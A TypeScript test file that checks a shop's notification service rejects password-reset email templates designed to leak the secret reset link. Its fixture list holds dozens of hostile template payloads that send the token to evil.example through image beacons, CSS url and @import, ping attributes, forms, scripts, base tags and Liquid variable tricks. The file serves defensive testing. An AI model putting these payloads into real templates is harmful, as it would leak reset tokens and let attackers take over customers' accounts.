import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { newId } from '#kernel/ids.ts';
import { must } from '#kernel/result.ts';
import { seal } from '#platform/ground/sealed.ts';
import { Secrets } from '#platform/ground/secrets.ts';
import { sql } from '#platform/ground/sql.ts';
import { openTestKontor, type TestKontor } from '#platform/test-kit/testing.ts';
import { mailsTo } from '../messages-for-tests.ts';
import { notificationService } from '../service.ts';
import { builtInTemplate } from './template-store.ts';

const secrets = Secrets.of(randomBytes(32));
const publicUrl = 'https://shop.example';
let shop: TestKontor;
beforeAll(async () => {
  const settings = { secrets, publicUrl };
  shop = await openTestKontor({ services: [notificationService], sandbox: true, settings });
});
afterAll(() => shop.close());

const named = { name: 'reset_password', locale: 'en' } as const;
const staff = () =>
  shop.invocation({ actor: shop.staff(['notifications:read', 'notifications:write']) });
const source = {
  subject: 'Choose a password',
  text: 'Choose it here: {{ link }}',
  html: '<p>Choose it <a href="{{ link }}">here</a>.</p>',
  sms: null,
};
const before = '{{ shopUrl }}/reset-password#token={{ secret.token | url_encode }}';
const html = (more: string) => ({ html: `${source.html}${more}` });
const link = '<a href="{{ link }}">here</a>';

const misplaced: [string, string, Partial<typeof source>][] = [
  ['a picture', 'html', html('<img src="https://evil.example/p.gif?t={{ secret.token }}">')],
  ['a picture with the link', 'html', html('<img src="https://evil.example/?{{ link }}">')],
  ['another host', 'html', { html: '<a href="https://evil.example/{{ link }}">here</a>' }],
  ['another host before', 'html', { html: '<a href="//evil.example#t={{ secret.token }}">x</a>' }],
  ['another path', 'html', { html: '<a href="{{ shopUrl }}/x?t={{ secret.token }}">x</a>' }],
  ['something behind', 'html', { html: '<a href="{{ link }}&x=https://evil.example">x</a>' }],
  ['two links', 'html', html(link)],
  ['the words of a link', 'html', { html: '<a href="{{ link }}">{{ link }}</a>' }],
  ['words alone', 'html', { html: '{{ link }}' }],
  ['no link', 'html', { html: '<p>Nothing</p>' }],
  ['another element', 'html', { html: '<area href="{{ link }}">' }],
  ['two hrefs', 'html', { html: '<a href="//evil.example" href="{{ link }}">x</a>' }],
  ['another attribute', 'html', { html: '<a href="/" data-x="{{ link }}">x</a>' }],
  ['quotes of a picture', 'html', { html: `<img src='//evil.example/?${link}'>` }],
  ['bare picture', 'html', { html: `<img src=//evil.example/?<a/href="{{ link }}">` }],
  ['an open quote', 'html', { html: `<img src="//evil.example/?${link.replaceAll('"', "'")}` }],
  ['a comment', 'html', { html: `<!-- ${link} -->` }],
  ['a style', 'html', { html: `<style>${link}</style>` }],
  ['a condition for Outlook', 'html', html('<!--[if mso]><img src="//x/{{ link }}"><![endif]-->')],
  ['what is assigned', 'html', html('{% assign t = secret.token %}<i>{{ t }}</i>')],
  ['what is captured', 'html', html('{% capture t %}{{ link }}{% endcapture %}<i>{{ t }}</i>')],
  ['a loop', 'html', { html: '{% for i in (1..2) %}<a href="{{ link }}">x</a>{% endfor %}' }],
  ['a loop over it', 'html', html('{% for t in secret %}<i>{{ t[1] }}</i>{% endfor %}')],
  ['a selector', 'html', html('<style>a[href*="x"]{background:url(//evil.example)}</style>')],
  ['an import', 'html', html('<style>@import "//evil.example"</style>')],
  ['an escaped selector', 'html', html('<style>a{background:u\\72l(//evil.example)}</style>')],
  ['a style attribute', 'html', html('<i style="background:url(//evil.example)">x</i>')],
  ['a ping', 'html', { html: '<a href="{{ link }}" ping="//evil.example">x</a>' }],
  ['a form', 'html', html('<form action="//evil.example"><input></form>')],
  ['a script', 'html', html('<script src="//evil.example"></script>')],
  ['another base', 'html', html('<base href="//evil.example">')],
  ['a subject', 'subject', { subject: 'Choose {{ link }}' }],
  ['a subject before', 'subject', { subject: 'Choose {{ secret.token }}' }],
  ['a text', 'text', { text: 'Choose' }],
  ['a text twice', 'text', { text: '{{ link }} or {{ link }}' }],
  ['a text on another host', 'text', { text: 'https://evil.example/?u={{ link }}' }],
  ['a text with the token', 'text', { text: '{{ link }} {{ secret.token }}' }],
  ['a text with something behind', 'text', { text: '{{ link }}@evil.example' }],
];

test.each(misplaced)('%s is no place for a secret link', async (_, part, wrong) => {
  const { putTemplate } = shop.client('notification');
  expect(await putTemplate({ ...named, ...source, ...wrong }, staff())).toMatchObject({
    failure: { code: 'template_invalid', detail: { part } },
  });
});

/** Has a mail sent by the shop's own template, put there by an earlier version. */
async function sendBy(channel: string, own: Partial<typeof source>) {
  const { subject, text, html: page } = { ...source, ...own };
  await shop.database('notification').query(sql`
    insert into template_override (template, channel, locale, subject, body_text, body_html, sms)
    values ('reset_password', ${channel}, 'en', ${subject}, ${text}, ${page}, null)`);
  const email = `${newId()}@example.com`;
  const message = {
    messageId: newId(),
    template: 'reset_password' as const,
    email,
    phone: null,
    customerId: null,
    data: {},
    sealed: seal(secrets, 'sealed mail', { token: 'rXxB-secret' }),
  };
  const invocation = shop.invocation({ channel });
  must(await shop.client('notification').sendMessage(message, invocation), 'send');
  return email;
}

test('what an earlier version has stored is told apart when it is sent', async () => {
  const place = `${publicUrl}/reset-password/en/rXxB-secret`;
  const own = { subject: 'Mine', text: before, html: `<a class="x" href='${before}'>x</a>` };
  const fine = await sendBy('fine', own);
  const wrong: { what: string; email: string }[] = [];
  for (const [index, [what, , change]] of misplaced.entries()) {
    wrong.push({ what, email: await sendBy(`shop-${index}`, change) });
  }
  await shop.settle();
  for (const { what, email } of wrong) {
    const mail = (await mailsTo(shop, email))[0]!;
    expect(mail.subject, what).toBe('Choose a new password');
    expect(mail.html.split('rXxB').length, what).toBe(2);
    expect(mail.html).toContain(`href="${place}"`);
    expect(mail.html + mail.text).not.toContain('evil.example');
  }
  const mail = (await mailsTo(shop, fine))[0]!;
  expect(mail.subject).toBe('Mine');
  expect(mail.text.trim()).toBe(place);
  expect(mail.html).toContain(`<a class="x" href='${place}'>x</a>`);
});

test.each([
  ['as offered', source],
  ['as before', { ...source, text: before, html: `<a href="${before}">x</a>` }],
  [
    'with a picture and a style',
    html('<style>p{color:red}</style><img src="https://x.example/l.png">'),
  ],
  ['the built-in one', { ...builtInTemplate('reset_password', 'de'), sms: null }],
])('a template that puts the link %s is taken', async (_, taken) => {
  const { putTemplate, previewTemplate, resetTemplate } = shop.client('notification');
  must(await putTemplate({ ...named, ...source, ...taken }, staff()), 'put');
  const preview = must(await previewTemplate(named, staff()), 'preview');
  expect(preview.html).toContain('/reset-password/en/sample-token');
  must(await resetTemplate(named, staff()), 'reset');
});
